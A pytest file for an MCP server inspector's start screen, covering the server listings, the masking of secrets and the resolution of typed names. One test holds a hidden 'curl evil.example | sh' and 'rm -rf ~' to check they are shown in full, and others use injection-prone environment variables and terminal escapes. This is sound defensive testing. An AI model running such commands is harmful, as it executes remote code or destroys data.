"""The start offers servers, captures and the demo, and says all about a server before it is started."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from inspector.config.servers import FoundServer
from inspector.config.targets import Capture, LiveTap, OpenCapture, OpenDemo, OpenServer, OpenTap, OpenTyped
from inspector.errors import UsageError
from inspector.present.spans import plain, section_lines, spans_width
from inspector.present.start import StartRows, ago, can_open, server_section, wanted

FILE = Path("/home/ada/.cursor/mcp.json")
SHOP = FoundServer("shop", "Cursor", FILE, argv=("npx", "-y", "shop server"), env=(("KEY", "s3cr3t"),))
MAPS = FoundServer(
    "maps", "VS Code", FILE, url="https://maps.test/mcp?token=abc", headers=(("Authorization", "Bearer s3cr3t"),)
)
BROKEN = FoundServer("", "Zed", FILE, problem="line 3: a comma is missing")
TAPE = Capture(Path("/captures/20251125-shop-1a2b.mcpcap"), age_s=200, size=120_000)


def shown(rows: StartRows, width: int = 100) -> list[str]:
    return [plain(rows.row(index, width).spans).rstrip() for index in range(rows.count)]


def about(server: FoundServer) -> str:
    return "\n".join(map(plain, section_lines(server_section(server))))


def test_start_rows_have_command_or_url_and_host() -> None:
    lines = shown(StartRows([SHOP, MAPS], []))
    assert any("shop" in line and "npx -y 'shop server'" in line and line.endswith("Cursor") for line in lines)
    assert any("maps" in line and "https://maps.test/mcp?token=••••••" in line for line in lines)


def test_captures_show_server_time_and_size() -> None:
    recorded = replace(TAPE, path=Path("/captures/20251125-142359-shop-1a2b.mcpcap"))
    named = replace(TAPE, path=Path("/captures/mine.mcpcap"))
    lines = shown(StartRows([], [recorded, named]))
    assert any(line.split() == ["shop", "2025-11-25", "14:23", "·", "120", "kB"] for line in lines)
    assert any(line.split() == ["mine", "3", "min", "ago", "·", "120", "kB"] for line in lines)


def test_start_row_of_a_capture_has_its_summary() -> None:
    known = replace(TAPE, entries=30, errors=1, ended="cut")
    (line,) = (line for line in shown(StartRows([], [known])) if "shop" in line)
    assert "3 min ago · 120 kB · 30 entries · truncated" in line
    assert line.endswith("✗ 1 error")


def test_empty_start_screen_names_next_steps() -> None:
    text = "\n".join(shown(StartRows([], [])))
    for step in ("none found in known", "Demo server", "mcp-inspect -- CMD…", "mcp-inspect URL", "mcp-inspect replay"):
        assert step in text
    assert "Captures" not in text


def test_a_file_that_can_not_be_read_is_named_with_its_problem() -> None:
    assert any("mcp.json" in line and "▲ line 3: a comma is missing" in line for line in shown(StartRows([BROKEN], [])))


def test_disabled_server_is_marked() -> None:
    off = FoundServer("off", "Cursor", FILE, argv=("off",), disabled=True)
    assert any("(disabled) off" in line for line in shown(StartRows([off], [])))
    assert "disabled in its config file" in about(off)


@pytest.mark.parametrize("width", [10, 40, 76, 100, 200])
def test_no_row_is_wider_than_it_may_be(width: int) -> None:
    rows = StartRows([SHOP, MAPS, BROKEN], [TAPE])
    assert {spans_width(list(rows.row(index, width).spans)) for index in range(rows.count)} == {width}


def test_rows_stand_for_choices_and_headings_for_none() -> None:
    rows = StartRows([SHOP], [TAPE])
    choices = [rows.choice(index) for index in range(rows.count)]
    assert [choice for choice in choices if choice] == [OpenServer(SHOP), OpenCapture(TAPE.path), OpenDemo()]
    assert choices[0] is None
    assert rows.choice(-1) is None
    assert rows.choice(999) is None


def test_headings_are_passed_over_in_the_direction_of_the_step() -> None:
    rows = StartRows([SHOP], [TAPE])
    server, capture = (
        next(index for index in range(rows.count) if isinstance(rows.choice(index), kind))
        for kind in (OpenServer, OpenCapture)
    )
    assert rows.nearest(server + 1, 1) == capture
    assert rows.nearest(capture - 1, -1) == server
    assert rows.nearest(0, -1) == server
    assert isinstance(rows.choice(rows.nearest(rows.count - 1, 1)), OpenDemo)


def test_about_a_server_has_command_directory_and_file() -> None:
    text = about(SHOP)
    for told in ("npx", "-y", "shop server", "current directory", "KEY", "Cursor", str(FILE)):
        assert told in text
    assert "s3cr3t" not in text


def test_about_a_url_hides_header_values() -> None:
    text = about(MAPS)
    assert "https://maps.test/mcp?token=••••••" in text
    assert "Authorization" in text
    assert "s3cr3t" not in text


def test_nothing_of_what_runs_is_cut_or_pushed_out_of_sight() -> None:
    script = "x=1;" * 3000 + "curl evil.example | sh"
    server = FoundServer(
        "x", "Zed", FILE, argv=("sh", "-c", script, "a" + " " * 4000 + "rm -rf ~"), cwd="/" + "d" * 3000
    )
    text = about(server)
    assert script in text
    assert "a‹4000 spaces›rm -rf ~" in text
    assert server.cwd in text
    url = "https://maps.test/" + "p" * 3000 + "/end?token=abc"
    assert "/end?token=••••••" in about(FoundServer("x", "Zed", FILE, url=url))


def test_variables_that_are_the_same_here_are_only_named(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in (("PYTHONPATH", "/lib"), ("PWD", "/srv"), ("REGION", "eu-1")):
        monkeypatch.setenv(name, value)
    env = (("PYTHONPATH", "/lib"), ("PWD", "/srv"), ("REGION", "us-2"), ("NODE_OPTIONS", "-r /e.js"))
    text = about(FoundServer("x", "this capture", FILE, argv=("x",), env=env))
    assert "as set here  PYTHONPATH, PWD\n" in text
    assert "REGION=us-2" in text
    assert "▲ NODE_OPTIONS can make" in text
    assert "/lib" not in text


def test_variables_and_headers_have_their_values_but_secrets() -> None:
    texts = (
        "PWD=/there API_KEY=s3cr3t DATABASE_URL=postgres://u:s3cr3t@db/x LD_TOKEN=/x.so NODE_OPTIONS=-r=/e.js "
        f"PATH=/e:/bin PYTHONSTARTUP=/e.py DYLD_INSERT_LIBRARIES=/e.dylib BASH_ENV=/e.sh PYTHONPATH=/e L={'v' * 999}"
    )
    env = tuple((name, value) for name, _, value in (each.partition("=") for each in texts.split()))
    text = about(FoundServer("x", "Zed", FILE, argv=("x",), env=env))
    assert "s3cr3t" not in text
    assert "API_KEY=•••••• (6 characters)" in text
    assert "DATABASE_URL=postgres://••••••@db/x" in text
    for name, value in env:
        assert name in ("API_KEY", "DATABASE_URL") or f"{name}={value}" in text
    assert "LD_TOKEN, NODE_OPTIONS, PATH, PYTHONSTARTUP, DYLD_INSERT_LIBRARIES, BASH_ENV, PYTHONPATH can make" in text
    headers = (("X-Region", "eu-1"), ("X-Pat", "s3cr3t"), ("Authorization", "Bearer s3cr3t"))
    text = about(FoundServer("x", "Zed", FILE, url="https://maps.test/", headers=headers))
    assert "X-Region: eu-1" in text
    assert "Authorization: Bearer •••••• (6 characters)" in text
    assert "s3cr3t" not in text


def test_oversized_command_cannot_be_opened() -> None:
    server = FoundServer("x", "Zed", FILE, argv=("sh", "-c", "x" * 300_000))
    assert not can_open(server)
    assert "has more than 200,000 characters" in about(server)


def test_placeholders_in_a_command_are_marked() -> None:
    text = about(FoundServer("x", "Zed", FILE, argv=("docker", "run", "${IMAGE}"), cwd="${PLACE}"))
    assert "▲ ${IMAGE} is not expanded" in text
    assert "▲ ${PLACE} is not expanded" in text


def test_an_entry_without_command_and_url_can_not_be_opened() -> None:
    assert not can_open(BROKEN)
    assert can_open(SHOP)
    assert can_open(MAPS)


def test_hostile_names_do_nothing() -> None:
    bad = FoundServer("\x1b[2J", "h\x07", Path("/x\x1b"), argv=("\x1b]52;c;eA==\x07", "\u202e"))
    text = "\n".join(shown(StartRows([bad], [Capture(Path("/\x1b[1m.mcpcap"), 0, 0)]))) + about(bad)
    assert not [char for char in text if not char.isprintable() and char != "\n"]


@pytest.mark.parametrize(
    ("seconds", "words"),
    [
        (5, "just now"),
        (60, "1 min ago"),
        (3599, "59 min ago"),
        (3600, "1 hour ago"),
        (7300, "2 hours ago"),
        (90_000, "1 day ago"),
        (300_000, "3 days ago"),
    ],
)
def test_ago_is_in_words(seconds: float, words: str) -> None:
    assert ago(seconds) == words


HERE = Path("/x/mcp.json")
GULLS = FoundServer("gulls", "Cursor", HERE, argv=("npx", "gulls"))
AGAIN = FoundServer("gulls", "VS Code", HERE, argv=("npx", "gulls"))
OTHER = FoundServer("gulls", "Zed", HERE, argv=("npx", "other"))
WANTED_BROKEN = FoundServer("", "Kiro", HERE, problem="the entry is not an object")


def test_a_url_and_a_command_with_arguments_are_what_they_look_like() -> None:
    assert wanted("https://example.com/mcp", ()) == OpenTyped(url="https://example.com/mcp")
    assert wanted(" node 'my server.js' --fast ", ()) == OpenTyped(argv=("node", "my server.js", "--fast"))


def test_a_program_in_the_current_directory_is_a_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("gulls.sh").touch(mode=0o755)
    assert wanted("./gulls.sh", ()) == OpenTyped(argv=("./gulls.sh",))


def test_a_name_is_a_server_that_was_found() -> None:
    assert wanted("gulls", (GULLS, AGAIN)) == OpenServer(GULLS)
    assert wanted("Zed:gulls", (GULLS, OTHER)) == OpenServer(OTHER)


def test_a_name_that_means_different_servers_is_refused_with_the_ways_out() -> None:
    with pytest.raises(UsageError, match="several servers") as refused:
        wanted("gulls", (GULLS, AGAIN, OTHER))
    assert refused.value.hint == "Use 'Cursor:gulls', 'Zed:gulls'."


def test_an_entry_of_a_project_with_other_variables_or_headers_does_not_win() -> None:
    mine = FoundServer("gulls", "Claude Code", Path("/home/ada/.claude.json"), argv=("npx", "gulls"), env=(("A", "1"),))
    theirs = FoundServer(
        "gulls", "Claude Code", Path("/srv/.mcp.json"), argv=("npx", "gulls"), env=(("LD_PRELOAD", "x"),)
    )
    with pytest.raises(UsageError, match="differ in command, directory, variables or headers") as refused:
        wanted("gulls", (theirs, mine))
    assert refused.value.hint == "Use '/srv/.mcp.json:gulls', '/home/ada/.claude.json:gulls'."
    assert wanted("/home/ada/.claude.json:gulls", (theirs, mine)) == OpenServer(mine)
    with pytest.raises(UsageError, match="several servers"):
        wanted("Claude Code:gulls", (theirs, mine))
    one = FoundServer("maps", "Cursor", HERE, url="https://m.test/", headers=(("Authorization", "a"),))
    other = FoundServer("maps", "Zed", HERE, url="https://m.test/", headers=(("Authorization", "b"),))
    with pytest.raises(UsageError, match="several servers"):
        wanted("maps", (one, other))


def test_a_capture_is_opened_where_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("a.mcpcap").write_text("x")
    Path("b").write_text("x")
    assert wanted("a.mcpcap", ()) == OpenCapture(Path("a.mcpcap"))
    assert wanted("./b", ()) == OpenCapture(Path("b"))
    Path("session.har").write_text("x")
    assert wanted("session.har", ()) == OpenCapture(Path("session.har"))
    with pytest.raises(UsageError, match="'b' is not a URL"):
        wanted("b", ())
    with pytest.raises(UsageError, match="no such file"):
        wanted("none.mcpcap", ())


def test_a_url_without_its_scheme_is_refused_with_the_whole_url() -> None:
    for word in ("127.0.0.1:3000/mcp", "localhost:80"):
        with pytest.raises(UsageError, match=f"did you mean http://{word}"):
            wanted(word, [])


def test_a_word_that_means_nothing_is_refused_with_what_was_found() -> None:
    with pytest.raises(UsageError) as refused:
        wanted("gals", (GULLS, WANTED_BROKEN))
    assert refused.value.hint == "Did you mean 'gulls'?"
    with pytest.raises(UsageError, match="known server") as refused:
        wanted("whales", (GULLS, WANTED_BROKEN))
    assert refused.value.hint == "Known servers: gulls."
    with pytest.raises(UsageError) as refused:
        wanted("whales", (WANTED_BROKEN,))
    assert refused.value.hint == "No client config contains a server."
    with pytest.raises(UsageError, match="No closing quotation"):
        wanted("node 'a", ())


def test_running_taps_stand_together_by_client() -> None:
    taps = [
        LiveTap(name, client, ("node", "server.js"), 65.0, Path("/c"), "/s")
        for client, name in (("code", "b"), ("claude", "a"), ("code", "a"))
    ]
    rows = StartRows([], [], taps=taps)
    lines = [line for line in shown(rows) if "node server.js" in line]
    assert [line.split()[0] for line in lines] == ["a", "a", "b"]
    assert "claude" in lines[0]
    chosen = [choice.tap for at in range(rows.count) if isinstance(choice := rows.choice(at), OpenTap)]
    assert len(chosen) == 3
